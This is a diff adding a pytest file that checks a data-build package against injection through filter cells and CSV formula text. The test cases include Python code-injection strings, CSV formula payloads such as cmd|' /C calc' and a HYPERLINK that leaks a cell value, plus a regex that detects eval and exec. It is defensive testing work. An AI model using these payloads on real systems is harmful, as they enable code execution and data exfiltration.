@@ -1,0 +1,144 @@
+"""Hostile input to the data build: cells run as code, spreadsheet formulas, values, paths (issue 14)."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from kodaira_analysis import paths
+from kodaira_analysis.errors import RawDataError
+from kodaira_analysis.plan.build import build, excel_frame
+from kodaira_analysis.plan.filters import FilterSyntaxError, apply_filter, parse_filter
+from tests.conftest import snapshot
+from tests.test_bad_input import edit, replace_once
+
+# ---------------------------------------------------------------- 1. data never runs as code
+
+FRAME = pd.DataFrame({"status": ["ahead", "behind", "behind"], "policy_no": [1, 2, 3], "fiscal_year": [2013, 2014, 2014]})
+
+
+@pytest.mark.parametrize(
+    ("text", "rows"),
+    [
+        ("status == 'behind'", [1, 2]),
+        ('status != "behind"', [0]),
+        ("policy_no >= 2 & status == 'behind'", [1, 2]),
+        ("policy_no<3&fiscal_year==2014", [1]),
+        ("fiscal_year in (2013, 2015)", [0]),
+        ("status in ('ahead','behind') & policy_no > 1", [1, 2]),
+        ("policy_no <= 1.5", [0]),
+    ],
+)
+def test_declared_filter_form_selects_rows(text, rows):
+    assert list(apply_filter(FRAME, parse_filter(text, list(FRAME.columns))).index) == rows
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "@os.system('touch /tmp/pwned')",
+        "status == @evil",
+        "__import__('os').system('id')",
+        "status.str.len() > 1",
+        "status == 'a'.__class__",
+        "policy_no == 1 and status == 'ahead'",
+        "policy_no == 1 | policy_no == 2",
+        "`policy_no` == 1",
+        "policy_no == 1 + 1",
+        "unknown_column == 1",
+        "__class__ == 1",
+        "policy_no == 1 &",
+        "policy_no == 1; import os",
+        "policy_no == (lambda: 1)()",
+    ],
+)
+def test_anything_else_is_refused(text):
+    with pytest.raises(FilterSyntaxError):
+        parse_filter(text, list(FRAME.columns))
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "@pd.io.common.os.system('touch {marker}')",
+        "status == 'ahead' & @__import__('os').system('touch {marker}')",
+        "policy_no.__class__.__init__.__globals__ == 1",
+        "status == __import__('os').system('touch {marker}')",
+    ],
+)
+def test_a_hostile_filter_cell_is_refused_naming_file_row_column_value(raw_dir, processed_dir, tmp_path, hostile):
+    marker = tmp_path / "pwned"
+    cell = hostile.format(marker=marker)
+    edit(raw_dir, "narrative_checks.csv", replace_once("status == 'ahead'", cell.replace('"', '""')))
+    with pytest.raises(RawDataError) as info:
+        build(raw_dir, processed_dir)
+    message = str(info.value)
+    assert "narrative_checks.csv" in message and "row 4" in message and "'条件'" in message
+    assert "declared form" in message
+    assert not marker.exists(), "the cell ran as code"
+    assert not processed_dir.exists()
+
+
+def test_no_eval_query_exec_or_pickle_in_the_package():
+    import re
+
+    pattern = re.compile(r"\.query\(|\beval\(|\bexec\(|pickle|yaml\.load\(|yaml\.unsafe_load|\bFullLoader")
+    offenders = [
+        f"{p.relative_to(paths.PACKAGE_DIR)}:{n}"
+        for p in paths.PACKAGE_DIR.rglob("*.py")
+        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
+        if pattern.search(line) and not line.lstrip().startswith("#")
+    ]
+    assert offenders == []
+
+
+# ---------------------------------------------------------------- 2. CSV injection
+
+
+@pytest.mark.parametrize(
+    ("label", "kept"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"click")', '=HYPERLINK("http://x.example/?"&A1,"click")'),
+        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("-2+3", "-2+3"),
+        ("＝1+1", "=1+1"),  # full-width: NFKC makes it a formula, and it is caught after normalising
+    ],
+)
+def test_formula_text_is_neutralised_in_the_excel_csv_only(raw_dir, processed_dir, label, kept):
+    quoted = '"' + label.replace('"', '""') + '"'
+    edit(raw_dir, "plan_structure.csv", replace_once(",,第１章４（１）", ",," + quoted))
+    build(raw_dir, processed_dir)
+    parquet = pd.read_parquet(processed_dir / "plan_structure.parquet")
+    assert parquet.loc[parquet["node_id"] == "viewpoint-1", "section"].item() == kept, "Parquet keeps the value"
+    excel = pd.read_csv(processed_dir / "plan_structure.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    cells = set(excel.to_numpy().ravel())
+    assert "'" + kept in cells, "the Excel CSV shows the text, never a formula"
+    assert kept not in cells
+
+
+def test_numbers_stay_numbers_in_the_excel_csv():
+    frame = pd.DataFrame({"value": [-1.5, 2.0], "label": ["-x", "ok"], "code": pd.Categorical(["=1", "a"])})
+    excel = excel_frame(frame)
+    assert excel["value"].tolist() == [-1.5, 2.0]
+    assert excel["label"].tolist() == ["'-x", "ok"]
+    assert excel["code"].tolist() == ["'=1", "a"]
+    assert frame["label"].tolist() == ["-x", "ok"], "the frame itself is not changed"
+
+
+# ---------------------------------------------------------------- helpers
+
+
+def run_module(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(paths.PROJECT_ROOT), os.environ.get("PYTHONPATH")]))}
+    return subprocess.run(
+        [sys.executable, *args], capture_output=True, text=True, env=env, cwd=cwd or paths.PROJECT_ROOT, timeout=300
+    )
+
+
+__all__ = ["run_module", "snapshot"]
